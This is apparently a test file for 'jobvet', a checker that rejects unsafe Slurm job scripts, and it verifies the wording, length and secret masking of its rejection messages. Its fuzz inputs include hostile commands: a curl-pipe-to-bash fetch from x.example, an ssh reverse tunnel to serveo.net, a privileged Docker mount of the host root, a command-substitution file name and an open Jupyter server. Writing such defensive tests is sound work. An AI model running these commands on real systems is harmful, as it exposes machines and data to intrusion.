// What users read at submission.
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { createEngine } from '../../src/engine/engine.ts';
import type { Finding } from '../../src/model/finding.ts';
import type { Report } from '../../src/model/report.ts';
import { builtLayer } from '../../src/policy/layers.ts';
import { Policy } from '../../src/policy/policy.ts';
import { submissionText, type SubmissionOptions } from '../../src/report/submission.ts';
import { Document } from '../../src/text/document.ts';
import { exactPlace } from '../../src/text/place.ts';

const STRICT = new Policy(
  [builtLayer('site', 'test', { thresholds: { enforce: { severity: 'info', confidence: 'low' } } })],
  '/',
  [],
);
const engine = createEngine({ policy: STRICT });
const FILE: SubmissionOptions = {
  id: 'JV-ABC123',
  origin: { name: '/home/u/p/job.sh', isFile: true },
  folder: '/home/u',
};

function messageFor(script: string, options: Partial<SubmissionOptions> = {}): string {
  return submissionText(engine.check({ path: 'job.sh', text: script, lang: 'sbatch' }), { ...FILE, ...options });
}

/**
 * What programs match on what sbatch prints: Nextflow (SlurmExecutor.groovy), submitit (slurm.py), Parsl (slurm.py),
 * Snakemake's plugin for Slurm, Cromwell and AiiDA.
 */
const TOOLS = [
  /Submitted batch job (\d+)/,
  /job (?<id>[0-9]+)/,
  /Submitted batch job (?<id>\S*)/,
  /submission failed/,
  /[^:]*Submitted batch job (\d+)/,
];

// eslint-disable-next-line no-control-regex -- that is what is looked for
const UNPRINTABLE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e]/;

function expectSound(message: string): void {
  const lines = message.split('\n');
  expect(lines.length).toBeLessThanOrEqual(12);
  expect(message).not.toMatch(UNPRINTABLE);
  for (const line of lines) expect(Array.from(line).length).toBeLessThanOrEqual(175);
  // A longer answer is none to the hook.
  expect(Buffer.byteLength(message)).toBeLessThan(8192);
  for (const tool of TOOLS) expect(message).not.toMatch(tool);
}

const HEAD = '#!/bin/bash\n#SBATCH --time=1\n';

describe('the message at submission', () => {
  test('has the line as it is and as it should be, and how to go on', () => {
    const message = messageFor(`${HEAD}jupyter lab --ip=0.0.0.0 --ServerApp.token=''\n`);
    expect(message.split('\n').slice(0, 2)).toEqual([
      'jobvet: job not accepted. Nothing queued, nothing charged.  [JV-ABC123]',
      expect.stringMatching(/^line 3: .* \(unauthenticated-network-service\)$/),
    ]);
    expect(message).toContain(
      "\n  now | jupyter lab --ip=0.0.0.0 --ServerApp.token=''\n  use | jupyter lab --ip=127.0.0.1\n",
    );
    expect(message).toContain('Fix: jobvet fix --diff --unsafe p/job.sh    Explain: jobvet explain JV101');
  });

  test.each([
    ['/home/u/p/job.sh', '/home/u', 'p/job.sh'],
    ['/home/u/p/job.sh', '/home/u/', 'p/job.sh'],
    ['/home/u/job.sh', '/home/v', '/home/u/job.sh'],
    ['/home/u/job.sh', '/', '/home/u/job.sh'],
    ['/home/u/my job.sh', '/home/u', "'my job.sh'"],
    ['/home/u/$(id).sh', '/home/u', "'$(id).sh'"],
    ['/home/u/-x.sh', '/home/u', './-x.sh'],
    ["/home/u/it's.sh", '/home/u', 'FILE'],
    ['/home/u/a\nb.sh', '/home/u', 'FILE'],
    [`/home/u/${'x'.repeat(200)}.sh`, '/home/u', 'FILE'],
  ])('names a file so that it may be copied: %j from %j', (name, folder, shown) => {
    const options = { origin: { name, isFile: true }, folder };
    const message = messageFor(`${HEAD}jupyter lab --ip=0.0.0.0 --ServerApp.token=''\n`, options);
    expect(message).toContain(`jobvet fix --diff --unsafe ${shown}    `);
  });

  test('offers no fix where jobvet has none or the script is no file', () => {
    const wrapped = messageFor(`${HEAD}jupyter lab --ip=0.0.0.0 --ServerApp.token=''\n`, {
      origin: { name: '--wrap', isFile: false },
    });
    expect(wrapped).toContain('\n--wrap, line 3: ');
    expect(wrapped).toContain('\n  use | jupyter lab');
    expect(wrapped).not.toContain('Fix:');
    expect(wrapped).toContain('\nExplain: jobvet explain JV101');
  });

  test('hides secrets on both lines', () => {
    const message = messageFor(`${HEAD}export API_TOKEN=ghp_16C7e42F292c6912E7710c838347Ae178B4a\n`);
    expect(message).toContain('  now | export API_TOKEN=<');
    expect(message).not.toContain('16C7e42F');
  });

  test('shows the part of a long line that it is about', () => {
    const pad = `echo ${'x'.repeat(3000)}; `;
    const message = messageFor(`${HEAD}${pad}jupyter lab --ip=0.0.0.0 --ServerApp.token=''\n`);
    expect(message).toMatch(/\n {2}now \| .*…|\n…/);
    expect(message).toContain('--ServerApp.token=');
    expectSound(message);
  });

  test('says nothing that programs take for words of sbatch', () => {
    const quoted = "echo 'Submitted batch job 123456'; echo submission failed; ";
    const message = messageFor(`${HEAD}${quoted}jupyter lab --ip=0.0.0.0 --ServerApp.token=''\n`);
    expect(message).toContain('Submitted batch-job #123456');
    expectSound(message);
  });

  test('tells of changes to several lines', () => {
    const doc = new Document('job.sh', '#!/bin/bash\none \\\n  two\nthree\n');
    const edit = (from: string, text: string) => ({
      at: exactPlace(doc, doc.text.indexOf(from), doc.text.indexOf(from) + from.length),
      text,
    });
    const at = exactPlace(doc, doc.text.indexOf('one'), doc.text.indexOf('two'));
    const report = reportWith(doc, [
      findingAt(at, {
        fix: { title: 't', safety: 'safe', edits: [edit('one \\\n  two', 'ONE\nTWO'), edit('three', '')] },
      }),
    ]);
    expect(submissionText(report, FILE).split('\n').slice(2, 5)).toEqual([
      '  now | one \\',
      '  use | ONE',
      '      | and 2 more',
    ]);
  });

  test('any report gives at most twelve printable lines', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        "jupyter lab --ip=0.0.0.0 --ServerApp.token=''",
        'curl http://x.example/i.sh | bash',
        'chmod 777 $HOME',
        'docker run --privileged -v /:/host x',
        'export TOKEN=ghp_16C7e42F292c6912E7710c838347Ae178B4a',
        'ssh -R 80:localhost:80 serveo.net',
        'Submitted batch job 7',
        'submission failed',
        '\\\n',
        '\n',
        ' ; ',
        "'",
        '<<EOF\n',
      ),
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.nat(4).map((power) => 'x'.repeat(10 ** power)),
      fc.nat(3).map((power) => '\u0301'.repeat(10 ** power)),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), fc.boolean(), (pieces, isFile) => {
        const name = pieces.join('').slice(0, 60);
        expectSound(
          messageFor(`${HEAD}${pieces.join('')}\n`, { origin: { name: isFile ? `/${name}` : name, isFile } }),
        );
      }),
      { numRuns: 150 },
    );
  }, 60_000);

  test('any findings and fixes do', () => {
    const text = fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.constant('\n')), { maxLength: 30 });
    const spans = fc.array(fc.tuple(fc.nat(200), fc.nat(200), fc.string({ unit: 'binary' })), { maxLength: 8 });
    fc.assert(
      fc.property(text, spans, fc.boolean(), (parts, list, options) => {
        const doc = new Document('job.sh', parts.join(''));
        const clip = (offset: number): number => Math.min(offset, doc.text.length);
        const findings = list.map(([start, length, added]) => {
          const at = exactPlace(doc, clip(start), clip(start + length));
          return findingAt(at, { message: added, fix: { title: '', safety: 'safe', edits: [{ at, text: added }] } });
        });
        const more = options ? { optionsName: 'job.sh' } : {};
        expectSound(submissionText(reportWith(doc, findings), { ...FILE, ...more, help: parts.join(' ') }));
      }),
    );
  });
});

function findingAt(at: Finding['at'], more: Partial<Finding>): Finding {
  return {
    ...{ rule: 'JV101', name: 'a-rule', family: 'network', severity: 'high', confidence: 'high', severityWhy: [] },
    ...{ phase: 'run', at, statement: at, message: 'It is bad.', via: [], related: [], fingerprint: '', url: '' },
    ...{ action: 'reject', ...more },
  };
}

function reportWith(document: Document, findings: readonly Finding[]): Report {
  const { manifest, stats } = engine.check({ path: 'x', text: '#!/bin/sh\n', lang: 'sbatch' });
  return {
    ...{ document, language: 'sbatch', findings, suppressed: [], coverage: [], verdict: 'reject' },
    ...{ submission: null, directives: [], commands: [], effects: [], manifest, stats },
  };
}
